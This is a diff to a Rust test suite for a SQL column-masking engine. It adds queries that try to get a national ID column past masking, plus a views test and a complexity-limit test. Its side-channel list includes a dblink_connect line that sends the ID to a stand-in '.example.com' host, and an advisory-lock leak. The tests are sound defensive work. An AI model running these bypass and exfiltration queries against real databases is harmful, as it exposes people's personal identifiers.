@@ -69,6 +69,7 @@ fn masked(sql: &str, spec: &str) -> Result<String, String> {
     let rules = SessionRules {
         masker: &m,
         session: &s,
+        views: None,
     };
     let mut cols = columns(spec);
     apply_lineage(sql, &mut cols, &rules)?;
@@ -100,6 +101,7 @@ const MASKED: &[(&str, &str, &str)] = &[
     ("select md5(national_id) from customers", "?", "M"),
     ("select (national_id)::int from customers", "?", "M"),
     ("select length(national_id) from customers", "?", "M"),
+    ("select public.count(national_id) from customers", "?", "M"),
     ("select \"national_id\" || 'x' from \"customers\"", "?", "M"),
     ("select customers.national_id || '' from customers", "?", "M"),
     ("select public.customers.national_id || '' from public.customers", "?", "M"),
@@ -118,6 +120,9 @@ const MASKED: &[(&str, &str, &str)] = &[
     ("select row(c.*)::text from customers c", "?", "M"),
     ("select jsonb_build_object('a', national_id) from customers", "?", "M"),
     ("select (c).national_id from customers c", "?", "M"),
+    ("select c.row_to_json from customers c", "?", "M"),
+    ("select (c.*)::text from customers c", "?", "M"),
+    ("select array[c.*] from customers c", "?", "M"),
     ("select c, id from customers c", "customers. customers.id", "M."),
     ("select row_to_json(customers) from customers", "?", "M"),
     // subqueries, CTEs, LATERAL, joins
@@ -130,6 +135,16 @@ const MASKED: &[(&str, &str, &str)] = &[
     ("select x.n from (select * from (select reverse(national_id) n from customers) a) x", "?", "M"),
     ("select u.v from customers c, lateral (select reverse(c.national_id) v) u", "?", "M"),
     ("select unnest(array[national_id]) from customers", "?", "M"),
+    ("select reverse(t.z) from (table customers) t(x, y, z)", "?", "M"),
+    ("with t(x, y, z) as (select * from customers) select reverse(z) from t", "?", "M"),
+    ("with t(n) as (select national_id from customers) select x.n || '' from t as x", "?", "M"),
+    ("select x from customers c cross join lateral (values (c.national_id)) v(x)", "?", "M"),
+    ("select v.* from customers c, lateral (select c.national_id || '') v", "?", "M"),
+    (
+        "select * from json_populate_record(null::customers, (select row_to_json(c) from customers c limit 1))",
+        "? ? ?",
+        "MMM",
+    ),
     ("select j.value from customers c, jsonb_each_text(to_jsonb(c)) j", "?", "M"),
     ("select reverse(national_id) from customers c join orders o using (id)", "?", "M"),
     ("select upper(j.national_id) from (customers c join orders o on true) j", "?", "M"),
@@ -195,6 +210,7 @@ const KEPT: &[(&str, &str, &str)] = &[
     ("select count(*) from customers", "?", "."),
     ("select count(national_id) from customers", "?", "."),
     ("select count(distinct national_id) from customers", "?", "."),
+    ("select pg_catalog.count(national_id) from customers", "?", "."),
     ("select o.customer_id, sum(o.total) from orders o group by 1", "orders.customer_id ?", ".."),
     (
         "select c.name, count(o.id), max(o.total) from customers c join orders o on o.customer_id = c.id group by c.name",
@@ -254,6 +270,7 @@ fn nothing_happens_without_column_rules() {
     let rules = SessionRules {
         masker: &m,
         session: &s,
+        views: None,
     };
     let mut cols = columns("?");
     apply_lineage(
@@ -282,6 +299,7 @@ fn a_glob_rule_masks_whole_rows_of_the_tables_it_names() {
     let rules = SessionRules {
         masker: &m,
         session: &s,
+        views: None,
     };
     let mut cols = columns("? ?");
     apply_lineage(
@@ -303,6 +321,8 @@ const SIDE_CHANNELS: &[&str] = &[
     "select 1 from customers where pg_notify('c', national_id) is null",
     "select set_config('my.v', national_id, false) from customers",
     "select setval('s', length(national_id)) from customers",
+    "select pg_advisory_lock(hashtext(national_id)) from customers",
+    "select dblink_connect('host=' || national_id || '.example.com')  from customers",
     "select lo_from_bytea(0, convert_to(national_id, 'UTF8')) from customers",
     "insert into orders (note) select national_id from customers",
     "insert into audit select * from customers",
@@ -372,6 +392,7 @@ fn side_channels_of_ruled_columns_are_refused() {
     let rules = SessionRules {
         masker: &m,
         session: &s,
+        views: None,
     };
     let mut failures = Vec::new();
     for sql in SIDE_CHANNELS {
@@ -399,6 +420,7 @@ fn statements_that_read_ruled_columns_are_known() {
     let rules = SessionRules {
         masker: &m,
         session: &s,
+        views: None,
     };
     for sql in [
         "select national_id::int from customers",
@@ -428,4 +450,78 @@ fn analyses_are_cached_by_text() {
     // Deep nesting fails closed rather than overflowing.
     let deep = format!("select {}1{}", "lower(".repeat(300), ")".repeat(300));
     assert!(analyse(&deep).is_err());
+    // Nested recursive CTEs cannot multiply the work without bound.
+    let mut nested = "select national_id from customers".to_owned();
+    for i in 0..8 {
+        nested = format!(
+            "with recursive r{i}(x) as (select x from ({nested}) s(x) union all select x || '' from r{i}) select x from r{i}"
+        );
+    }
+    let started = std::time::Instant::now();
+    let result = analyse(&nested);
+    assert!(
+        started.elapsed() < Duration::from_secs(5),
+        "{:?}",
+        started.elapsed()
+    );
+    match result {
+        Ok(l) => assert!(matches!(l.statements.as_slice(), [Output::Rows(_)])),
+        Err(e) => assert!(e.contains("too complex"), "{e}"),
+    }
+}
+
+#[test]
+fn views_are_followed_to_their_base_tables() {
+    let m = masker(RULES);
+    let s = session();
+    let views: HashMap<String, Arc<str>> = [
+        (
+            "people".to_owned(),
+            Arc::from("SELECT c.id, c.national_id AS nid, c.name FROM customers c"),
+        ),
+        ("people2".to_owned(), Arc::from("SELECT * FROM people")),
+        (
+            "ids".to_owned(),
+            Arc::from("SELECT reverse(national_id) AS r FROM customers"),
+        ),
+    ]
+    .into_iter()
+    .collect();
+    let rules = SessionRules {
+        masker: &m,
+        session: &s,
+        views: Some(&views),
+    };
+    let run = |sql: &str, spec: &str| {
+        let mut cols = columns(spec);
+        apply_lineage(sql, &mut cols, &rules).unwrap();
+        let mut rows = m.plan(&s, &cols).unwrap();
+        let mut row: Vec<Option<Vec<u8>>> = cols.iter().map(|_| Some(b"v".to_vec())).collect();
+        rows.mask_row(&mut row);
+        row.iter()
+            .map(|v| if v.as_deref() == Some(b"v") { '.' } else { 'M' })
+            .collect::<String>()
+    };
+    // A plain column of a view (the server names the view).
+    assert_eq!(
+        run(
+            "select id, nid, name from people",
+            "people.id people.nid people.name"
+        ),
+        ".M."
+    );
+    assert_eq!(run("select nid from people2", "people2.nid"), "M");
+    // Computed over a view, and a view's computed column.
+    assert_eq!(
+        run("select reverse(nid), upper(name) from people", "? ?"),
+        "M."
+    );
+    assert_eq!(run("select row_to_json(p) from people p", "?"), "M");
+    assert_eq!(run("select r from ids", "ids.r"), "M");
+    assert!(side_channel("insert into log select nid from people", &rules).is_err());
+    assert!(side_channel("insert into log select name from people", &rules).is_ok());
+    assert_eq!(
+        relations("select * from people p join orders o on true").unwrap(),
+        BTreeSet::from(["people".to_owned(), "orders".to_owned()])
+    );
 }
